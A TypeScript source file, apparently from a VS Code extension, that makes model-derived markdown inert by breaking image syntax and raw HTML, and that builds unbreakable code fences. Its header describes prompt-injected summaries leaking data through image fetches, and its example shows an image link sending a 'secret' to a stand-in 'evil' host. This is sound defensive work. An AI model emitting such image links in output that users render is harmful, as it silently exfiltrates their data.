/**
 * Markdown that session or model text gets into, made unable to reach out. VS Code renders hovers,
 * tree tooltips and the markdown preview with images (fetched from wherever they point: a prompt-
 * injected summary could send data to any server) and, in the preview, with raw HTML. Pure.
 */

/** U+200B: invisible in rendered markdown; `!` + it + `[` is no image, `<` + it is no tag. */
const ZERO_WIDTH_SPACE = '\u200b';
const BANG = 0x21;
const OPEN_BRACKET = 0x5b;
const LESS_THAN = 0x3c;
const BACKTICK = 0x60;

/**
 * `text` with every image opener (`![`) and every `<` (raw HTML, autolinks) broken by an invisible
 * character, and nothing else changed: formatting, links and code still render, but no image and no
 * HTML element can come out of it, whatever the markdown around them (code spans, escapes and
 * entities included). Links stay links: they are followed only when clicked.
 *
 * @example
 * inertMarkdown('- done ![x](https://evil/?q=secret)') // '- done !\u200b[x](https://evil/?q=secret)'
 */
export function inertMarkdown(text: string): string {
	let out = '';
	let copied = 0;
	for (let i = 0; i < text.length; i++) {
		const code = text.charCodeAt(i);
		if (code === LESS_THAN || (code === BANG && text.charCodeAt(i + 1) === OPEN_BRACKET)) {
			out += text.slice(copied, i + 1) + ZERO_WIDTH_SPACE;
			copied = i + 1;
		}
	}
	return out + text.slice(copied);
}

/**
 * A fenced code block holding `text` exactly, whatever it holds: the fence is longer than any run
 * of backticks in it, so no line of the text can close it (VS Code's own `appendCodeblock` only
 * counts runs at the start of a line, and an indented fence closes the block too).
 */
export function codeBlock(text: string, language = ''): string {
	let longest = 0;
	let run = 0;
	for (let i = 0; i < text.length; i++) {
		run = text.charCodeAt(i) === BACKTICK ? run + 1 : 0;
		longest = Math.max(longest, run);
	}
	const fence = '`'.repeat(Math.max(3, longest + 1));
	return `\n${fence}${language}\n${text}\n${fence}\n`;
}
